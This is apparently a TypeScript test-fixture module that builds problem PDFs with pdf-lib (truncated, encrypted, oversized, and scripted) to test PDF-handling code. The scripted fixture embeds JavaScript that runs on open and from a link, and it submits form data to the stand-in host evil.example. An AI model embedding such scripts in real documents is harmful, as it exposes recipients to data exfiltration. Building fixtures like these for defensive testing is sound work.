import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { makePdf } from './make-pdf.js';

/** The first 60% of a real PDF: its cross-reference table and trailer are gone. */
export async function truncatedPdf(): Promise<Uint8Array> {
  const whole = await makePdf([['A page of a paper.'], ['Another page.']]);
  return whole.slice(0, Math.floor(whole.length * 0.6));
}

/** A PDF under the standard security handler with a user password that is not empty. */
export async function encryptedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  doc.addPage().drawText('secret', { x: 72, y: 720, size: 12, font });
  const encrypt = doc.context.obj({
    Filter: 'Standard',
    V: 1,
    R: 2,
    O: PDFHexString.of('11'.repeat(32)),
    U: PDFHexString.of('22'.repeat(32)),
    P: -4,
  });
  doc.context.trailerInfo.Encrypt = doc.context.register(encrypt);
  doc.context.trailerInfo.ID = doc.context.obj([PDFHexString.of('33'.repeat(16)), PDFHexString.of('33'.repeat(16))]);
  return doc.save({ useObjectStreams: false });
}

/** A PDF that asks to run JavaScript when opened, and from a link on its page. */
export async function scriptedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage();
  page.drawText('This page carries scripts.', { x: 72, y: 720, size: 12, font });
  const script = "app.alert('pdf script ran'); this.submitForm('https://evil.example/');";
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'JavaScript', JS: PDFString.of(script) }));
  const link = doc.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [72, 700, 300, 740],
    A: { S: 'JavaScript', JS: PDFString.of(script) },
  });
  page.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
  return doc.save();
}

/** More pages than any paper has. */
export async function hugePdf(pages: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < pages; i++) doc.addPage([200, 200]);
  return doc.save();
}
